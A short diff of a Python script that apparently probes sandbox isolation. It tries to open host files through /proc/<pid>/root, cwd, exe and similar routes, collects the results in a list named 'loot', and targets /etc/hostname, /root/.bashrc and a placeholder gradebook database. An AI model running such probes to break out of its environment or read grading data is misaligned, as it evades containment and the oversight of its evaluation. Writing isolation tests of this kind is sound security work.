@@ -3,7 +3,7 @@ import os
 loot = []
 for pid in ("self", "1", str(os.getppid()), "2", "3"):
     for way in ("root", "cwd", "exe", "map_files", "task"):
-        for target in ("/etc/hostname", "/root", "@WITNESS@/gradebook.db"):
+        for target in ("/etc/hostname", "/root/.bashrc", "@WITNESS@/gradebook.db"):
             try:
                 handle = os.open(f"/proc/{pid}/{way}{target}", os.O_RDONLY)
             except OSError:
